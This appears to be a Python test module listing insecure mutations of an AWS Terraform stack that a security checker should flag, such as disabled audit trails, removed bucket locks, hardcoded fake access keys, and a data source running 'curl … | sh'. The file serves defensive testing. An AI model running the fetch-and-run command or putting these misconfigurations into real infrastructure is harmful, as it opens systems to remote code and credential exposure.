"""Structure: meta-arguments, provisioners, data sources, secrets in strings, missing protective resources."""

import base64
from typing import Any

from tests.assurance.corpus import Danger
from tests.assurance.mutants import Stack, body, put, remove

TEMPLATE = ("aws_launch_template", "cluster/template-general")
TRAIL = ("aws_cloudtrail", "audit/trail")
KEY = "AKIA" + "Z7QW3N5KJ2M4P6R8"
SECRET = "kT9vXq2LmZ0aBnC4dRfGh7" + "JsWpYu1EoI3QyN5xVb"


def data_source(stack: Stack) -> None:
    program = {"program": ["sh", "-c", "curl -s https://example.net | sh"]}
    stack.setdefault("data", {}).setdefault("external", {})["run"] = program


def module(stack: Stack) -> None:
    stack.setdefault("module", {})["debug"] = {"source": "git::https://example.net/debug.git"}


def null_resource(stack: Stack) -> None:
    resource = {
        "//": {"metadata": {"path": "stack/network/run"}},
        "provisioner": [{"local-exec": {"command": "true"}}],
    }
    stack["resource"]["null_resource"] = {"network_run": resource}


def user_data(stack: Stack) -> None:
    script = f"[settings.host-containers.admin]\nenabled = true\n# aws_secret_access_key = {SECRET}\n"
    body(stack, *TEMPLATE)["user_data"] = base64.b64encode(script.encode()).decode()


def lifecycle(*names: str) -> Any:
    return {"ignore_changes": list(names)}


DANGERS = [
    Danger("structure", "the trail is created zero times", put(*TRAIL, "count", 0), " ".join(TRAIL)),
    Danger(
        "structure",
        "the detector is created for each of nothing",
        put("aws_guardduty_detector", "audit/detector", "for_each", "${toset([])}"),
        "aws_guardduty_detector audit/detector",
    ),
    Danger(
        "structure",
        "changes of the database's public access are ignored",
        put("aws_db_instance", "database/server", "lifecycle", lifecycle("publicly_accessible", "storage_encrypted")),
        "aws_db_instance database/server",
    ),
    Danger(
        "structure",
        "all changes of the database's group are ignored",
        put("aws_security_group", "network/openings/database-group", "lifecycle", {"ignore_changes": "all"}),
        "aws_security_group network/openings/database-group",
    ),
    Danger(
        "structure",
        "the load balancer runs a command",
        put("aws_lb", "entry/load-balancer", "provisioner", [{"local-exec": {"command": "curl example.net"}}]),
        "aws_lb entry/load-balancer",
    ),
    Danger("structure", "a data source runs a program", data_source, "data.external.run"),
    Danger("structure", "a module of unknown origin", module, "module.debug"),
    Danger("structure", "a null resource runs a command", null_resource, "null_resource network/run"),
    Danger("structure", "a secret key in the nodes' user data", user_data, " ".join(TEMPLATE)),
    Danger(
        "structure",
        "an access key in an add-on's configuration",
        put(
            "aws_eks_addon",
            "cluster/coredns",
            "configuration_values",
            f'{{"env": {{"AWS_ACCESS_KEY_ID": "{KEY}", "AWS_SECRET_ACCESS_KEY": "{SECRET}"}}}}',
        ),
        "aws_eks_addon cluster/coredns",
    ),
    Danger(
        "inventory",
        "no trail",
        remove(*TRAIL),
        " ".join(TRAIL),
    ),
    Danger(
        "inventory",
        "no access analyzer",
        remove("aws_accessanalyzer_analyzer", "audit/outside-access"),
        "aws_accessanalyzer_analyzer audit/outside-access",
    ),
    Danger(
        "inventory",
        "no Security Hub",
        remove("aws_securityhub_account", "audit/security-hub"),
        "aws_securityhub_account audit/security-hub",
    ),
    Danger(
        "inventory",
        "no block of public snapshots",
        remove("aws_ebs_snapshot_block_public_access", "governance/snapshots"),
        "aws_ebs_snapshot_block_public_access governance/snapshots",
    ),
    Danger(
        "inventory",
        "no access logs of gold",
        remove("aws_s3_bucket_logging", "lake/gold/access-log"),
        "aws_s3_bucket lake/gold/bucket",
    ),
    Danger(
        "inventory",
        "the lock of the audit bucket is gone",
        remove("aws_s3_bucket_object_lock_configuration", "lake/audit/lock"),
        "aws_s3_bucket lake/audit/bucket",
    ),
    Danger(
        "inventory",
        "the lock of the recovery vault is gone",
        remove("aws_backup_vault_lock_configuration", "backup/recovery/lock"),
        "aws_backup_vault backup/recovery/vault",
    ),
]
